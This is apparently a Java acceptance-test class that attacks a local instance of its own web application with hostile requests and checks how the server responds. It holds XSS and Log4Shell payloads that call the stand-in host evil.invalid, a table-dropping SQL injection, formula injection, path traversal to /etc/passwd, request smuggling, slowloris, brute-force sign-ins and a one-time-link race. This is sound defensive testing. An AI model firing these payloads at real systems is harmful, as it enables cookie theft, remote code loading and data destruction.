package org.mingcha.acceptance;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;

/** Requests that nobody makes in good faith. */
record HostileRequests(int port, AbuseAnswers answers) {
    private static final List<String> TEXTS = List.of(
            "<script>fetch('//evil.invalid/'+document.cookie)</script>",
            "'; drop table correction.question; --",
            "${jndi:ldap://evil.invalid/a} #{7*7} {{7*7}}",
            "\u0000\u0008\u001b[2J\u202Eabc\uFEFF",
            "=cmd|' /C calc'!A0",
            "a".repeat(1_000_000),
            "../../../../etc/passwd");

    private static final List<String> JSON = List.of(
            "[".repeat(200_000),
            "{\"a\":".repeat(100_000),
            "{\"unit\":" + "9".repeat(100_000) + "}",
            "{\"unit\":1e999999999,\"return\":\"monthly\",\"period\":\"2025-01\",\"nil\":true}",
            "{\"unit\":\"\\ud800\",\"return\":\"\\u0000\"}",
            "{\"unit\":null,\"return\":[],\"period\":{},\"nil\":\"x\"}",
            "\"" + "x".repeat(1_500_000) + "\"",
            "{\"x\":" + "[1,".repeat(300) + "1" + "]".repeat(300) + "}",
            "null",
            "");

    private static final List<String> PATHS = List.of(
            "/api/v1/entries",
            "/api/v1/returns",
            "/api/v1/claims",
            "/api/v1/incidents",
            "/api/v1/risks",
            "/api/v1/questions");

    private static final List<String> FORMS = List.of(
            "/imports", "/returns/import", "/ledger", "/claims/1/save", "/findings", "/checklists/drafts", "/users");

    private static final List<String> TYPES = List.of(
            "application/x-www-form-urlencoded",
            "application/json",
            "multipart/form-data",
            "multipart/form-data; boundary=" + "b".repeat(5_000),
            "multipart/mixed; boundary=x",
            "text/xml",
            "\u00ff/\u00ff",
            "application/octet-stream");

    private static final List<String> BROKEN = List.of(
            "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
            "POST /sign-in HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "POST /sign-in HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
            "GET /" + "a".repeat(20_000) + " HTTP/1.1\r\nHost: a\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: a\r\n" + "X: y\r\n".repeat(5_000) + "\r\n",
            "GET / HTTP/1.1\r\nHost: a\r\nCookie: " + "a=b; ".repeat(1_000) + "\r\n\r\n",
            "GET /%00%ff/..%2f..%2fetc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
            "GET /;jsessionid=x/..;/users HTTP/1.1\r\nHost: a\r\n\r\n",
            "PUT / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 99999999\r\n\r\n",
            "TRACE / HTTP/1.1\r\nHost: a\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: a\r\nAccept: " + "*/*;q=0.1,".repeat(500) + "\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: a\r\nAccept-Language: " + "xx-yy;q=0.1,".repeat(400) + "\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=" + "0-1,".repeat(1_000) + "\r\n\r\n",
            "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\r\n\r\n",
            "GET\r\n\r\n");

    int broken(Random random) throws IOException {
        try (var line = new RawConnection(port, random)) {
            line.say(one(BROKEN, random));
            return line.status();
        }
    }

    int strange(Random random) throws IOException {
        var long7k = URLEncoder.encode("查询".repeat(400), StandardCharsets.UTF_8);
        var paths = List.of(
                "/?q=" + long7k,
                "/p/corrections?" + "q=a&".repeat(1_500),
                "/ledger?page=99999999999999999999&from=2025-99-99&unit=" + long7k,
                "/log/tile/0/x999/x999/999",
                "/log/tile/entries/-1",
                "/p/ask?unit=" + "%25".repeat(1_000),
                "/api/v1/entries?after=" + "9".repeat(1_000),
                "/actuator/heapdump",
                "/welcome/" + random.nextLong(),
                "/t/" + random.nextLong());
        return anonymous("GET " + one(paths, random) + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", random);
    }

    int question(Random random) throws IOException {
        var body = "text=" + URLEncoder.encode(one(TEXTS, random), StandardCharsets.UTF_8) + "&confirmed=yes";
        return anonymous(
                RawConnection.post("/p/ask", "application/x-www-form-urlencoded", body.length()) + body, random);
    }

    int forged(Random random) throws IOException {
        var body = "_csrf=x&name=y";
        return anonymous(RawConnection.post(one(FORMS, random), one(TYPES, random), body.length()) + body, random);
    }

    private int anonymous(String request, Random random) throws IOException {
        try (var line = new RawConnection(port, random)) {
            line.say(request);
            return line.status();
        }
    }

    /** Says that ten megabytes come, brings some, and goes. */
    int dropped(Random random) throws IOException {
        try (var line = new RawConnection(port, random)) {
            line.say(RawConnection.post(one(FORMS, random), "multipart/form-data; boundary=x", 10_000_000));
            line.say(new byte[random.nextInt(100_000)]);
            return RawConnection.HUNG_UP;
        }
    }

    /** A byte a second; the server ends it by itself. */
    int slow(Random random) throws IOException {
        try (var line = new RawConnection(port, random)) {
            line.say(RawConnection.post(one(List.of("/sign-in", "/p/ask"), random), TYPES.getFirst(), 10_000));
            for (int second = 0; second < 90; second++) {
                if (line.isOver(1_000)) return RawConnection.HUNG_UP;
                line.say("x");
            }
            answers.fault("A body of one byte a second is still waited for after 90 s");
            return RawConnection.HUNG_UP;
        }
    }

    /** Ten wrong tries from an address that was not there before. */
    int guess(Random random) throws IOException {
        int status = RawConnection.HUNG_UP;
        try (var client = new FormClient(port, "127.1." + random.nextInt(256) + "." + (1 + random.nextInt(250)))) {
            client.get("/sign-in");
            for (int i = 0; i < 10; i++) {
                var login = i % 2 == 0 ? "officer" : "somebody." + random.nextInt(1_000_000);
                status = client.post("/sign-in", Map.of("login", login, "password", "wrong" + random.nextLong()))
                        .statusCode();
                answers.add("wrong sign-in", status);
            }
        }
        return status;
    }

    int json(FormClient client, String token, Random random) throws IOException {
        var body = one(JSON, random).getBytes(StandardCharsets.UTF_8);
        return client.send(one(PATHS, random), "application/json", body, token).statusCode();
    }

    /** A signed-in body of another kind than the form takes. */
    int wrongType(FormClient client, Random random) throws IOException {
        var type = one(TYPES.subList(0, 6), random);
        return client.send(one(FORMS, random), type, "_csrf=x&a=b".getBytes(StandardCharsets.UTF_8))
                .statusCode();
    }

    /** What a browser does that opens four tabs right after its sign-in. */
    int firstPages(String login, Random random) throws Exception {
        try (var client = new FormClient(port, "127.2.0." + (1 + random.nextInt(250)))) {
            if (!client.signIn(login, Site.PASSWORD)) return 403;
            atOnce(4, () -> client.get("/").statusCode()).forEach(status -> {
                answers.add("parallel first page", status);
                if (status != 200 && status != 503) answers.fault("A first page was answered " + status);
            });
            TimeUnit.SECONDS.sleep(1);
            return 200;
        }
    }

    /** Eight at once spend one link; one may. */
    void race(String link) throws Exception {
        try (var client = new FormClient(port)) {
            client.get(link);
            var form = Map.of("password", Site.PASSWORD, "again", Site.PASSWORD);
            var statuses = atOnce(8, () -> client.post(link, form).statusCode());
            statuses.forEach(status -> answers.add("one-time link", status));
            long spent = statuses.stream().filter(status -> status == 302).count();
            if (spent > 1) answers.fault("A one-time link was spent " + spent + " times");
        }
    }

    private static List<Integer> atOnce(int times, Callable<Integer> request) throws Exception {
        try (ExecutorService threads = Executors.newFixedThreadPool(times)) {
            var all = threads.invokeAll(java.util.Collections.nCopies(times, request));
            var statuses = new java.util.ArrayList<Integer>();
            for (var each : all) statuses.add(each.get());
            return statuses;
        }
    }

    static <T> T one(List<T> all, Random random) {
        return all.get(random.nextInt(all.size()));
    }
}
